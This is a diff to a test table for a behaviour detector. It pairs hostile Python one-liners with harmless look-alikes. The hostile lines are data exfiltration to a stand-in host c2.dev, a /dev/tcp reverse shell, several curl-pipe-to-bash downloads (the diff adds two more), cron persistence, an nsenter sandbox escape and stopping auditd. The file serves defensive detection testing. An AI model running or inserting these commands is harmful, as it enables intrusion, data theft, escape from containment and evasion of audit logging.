@@ -34,6 +34,8 @@ class BehaviourDetectorTest {
           exfiltration/records § requests.post("https://c2.dev/d", json=cursor.fetchall()) § requests.post("https://c2.dev/d", json=len(cursor.fetchall()))
           backdoor/reverse-shell § os.system("bash -i >& /dev/tcp/c2.dev/4444 0>&1") § PATTERNS = ["bash -i >& /dev/tcp/"]
           backdoor/runs-download § subprocess.run(["sh", "-c", "curl -s https://c2.dev/x | bash"]) § print("install with: curl -s https://c2.dev/x | bash")
+          backdoor/runs-download § os.system("curl -s https://c2.dev/x | bash") § os.system("ls") or fail(RuntimeError("get it by curl -s https://c2.dev/x | bash"))
+          backdoor/runs-download § print("* * * * * curl -s https://c2.dev/x | bash", file=open("/srv/a", "w").write("") or p) § logger.info("curl -s https://c2.dev/x | bash") or os.system("ls")
           backdoor/persistence § open("/etc/cron.d/update", "w").write(JOB) § read("/etc/cron.d/update")
           backdoor/sandbox-escape § os.system("nsenter --target 1 --mount -- sh") § log("nsenter --target 1 --mount -- sh")
           backdoor/defence-off § os.system("systemctl stop auditd") § os.system("systemctl status auditd")
